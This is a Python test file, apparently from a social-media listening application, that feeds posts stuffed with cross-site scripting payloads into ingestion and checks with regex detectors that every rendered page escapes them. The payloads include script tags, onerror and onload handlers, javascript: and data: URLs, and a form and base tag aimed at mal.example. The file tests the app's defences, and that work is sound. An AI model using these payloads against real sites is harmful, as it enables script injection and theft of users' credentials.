"""What strangers publish is shown, never run, whatever they put in it."""

import re
from datetime import UTC, datetime

import pytest

from vigie.channels.models import Channel
from vigie.desk.models import Column
from vigie.inbox import intake
from vigie.inbox.models import Conversation
from vigie.inbox.tests.conftest import a_channel
from vigie.listening.ingest import ingest_page
from vigie.listening.models import Gathering, Mention, Source
from vigie.networks.types import ArrivalReason, LinkCard, Page, Ref, RemoteAuthor, RemoteMedia, RemotePost, SourceKind

SCRIPT = "<script>steal()</script>"
QUOTE = '"><img src=x onerror=steal()>'
RUNS = "javascript:steal()"
ORDER = "\u202e\u200b\u2066"  # reads backwards, is not seen, isolates
HTML = (
    f'<p onclick="steal()">Allô{SCRIPT}<a href="{RUNS}">un</a> <a href="data:text/html,{SCRIPT}">deux</a>'
    '<img src="x" onerror="steal()"><svg onload="steal()"></svg><iframe src="//mal.example"></iframe>'
    '<a href="https://mal.example" target="_blank" style="position:fixed">trois</a><style>*{display:none}</style>'
    '<form action="https://mal.example"><input name="password"></form><base href="https://mal.example/">'
)


def hostile(n: int, **fields: object) -> RemotePost:
    said: dict[str, object] = {
        "html": HTML,
        "title": SCRIPT + QUOTE,
        "spoiler": "",
        "language": QUOTE,
        "links": (RUNS, f"data:text/html,{SCRIPT}", QUOTE),
        "tags": (SCRIPT, QUOTE),
        "mentions": (SCRIPT,),
        "media": (
            RemoteMedia(RUNS, "image", RUNS, QUOTE),
            RemoteMedia("https://i.example/a.png", "image", "http://10.0.0.1/x", SCRIPT),
        ),
        "card": LinkCard(RUNS, SCRIPT, QUOTE, RUNS),
        "thread": QUOTE,
        "edited_at": datetime(1, 1, 1, tzinfo=UTC),
        "likes": 10**30,
    }
    author = RemoteAuthor(f"did:{QUOTE}", f"{SCRIPT}{ORDER}", f"{QUOTE}{ORDER}" * 20, RUNS, RUNS)
    ref = Ref(f"post:{n}:{QUOTE}", SCRIPT, RUNS, {"cid": SCRIPT})
    return RemotePost(
        ref,
        author,
        f"{SCRIPT}{QUOTE}{ORDER} {RUNS}" + "é" * n,
        datetime.now(UTC),
        ArrivalReason.MENTION,
        **said | fields,
    )  # type: ignore[arg-type]


@pytest.fixture
def channel(manager) -> Channel:
    return a_channel(manager.workspace)


@pytest.fixture
def source(channel) -> Source:
    column = Column.objects.create(workspace=channel.workspace, name=SCRIPT)
    made, _ = Source.objects.get_or_create(
        workspace=channel.workspace, channel=channel, network=channel.network, kind=SourceKind.MENTIONS
    )
    column.sources.set([made])
    return made


@pytest.fixture
def heard(source) -> Conversation:
    ingest_page(source, Page((hostile(1), hostile(80_000), hostile(3, spoiler=QUOTE + SCRIPT))), source.fence)
    gatherings = list(Gathering.objects.select_related("mention__author"))
    assert gatherings
    if not Conversation.objects.exists():
        intake.receive_gatherings(source, gatherings)
    return Conversation.objects.all()[0]


def dangers(page: str) -> list[str]:
    """Tags, attributes and addresses of theirs that a browser would run; ours carry a nonce."""
    found = re.findall(r'<script(?![^>]*(?:\bnonce=|\bsrc="/static/|\bsrc="/ui/bundle\.))[^>]*>', page)
    found += re.findall(r"<(?:img|svg|a|p|div|li)\b[^>]*\son\w+\s*=[^>]*>", page)
    found += re.findall(
        r"""(?:href|src|action|srcset|poster|formaction)\s*=\s*["']?\s*(?:javascript|data:text)[^>]*""", page
    )
    found += re.findall(r"<(?:iframe|base|object|embed|style(?![^>]*nonce))[^>]*>|action=.?https?://mal[^>]*", page)
    return found + re.findall(r'<[^>]+ style="[^>]*>', page)


def test_every_page_that_shows_it_stays_whole(heard, source, manager, client_of):
    client, place = client_of(manager), "/w/parti-du-fleuve/"
    mention = Mention.objects.first()
    pages = ["", "columns/", f"columns/{Column.objects.get().pk}/", "inbox/?state=all", f"conversations/{heard.pk}/"]
    pages += [f"mentions/{mention.pk}/thread/", f"people/{mention.author_id}/", "watches/preview/?question=steal"]
    pages += [f"mentions/{mention.pk}/answer/", "go/?q=steal", "feeds/", "journal/"]
    answers = {page: client.get(place + page, follow=True) for page in pages}
    assert {page: answer.status_code for page, answer in answers.items() if answer.status_code != 200} == {}
    assert {page: found for page, answer in answers.items() if (found := dangers(answer.text))} == {}
    assert any("steal()" in answer.text for answer in answers.values())


def test_the_finder_of_dangers_sees_them():
    assert dangers(SCRIPT)
    assert dangers(f"<p>{QUOTE}")
    assert dangers(f'<a href="{RUNS}">')
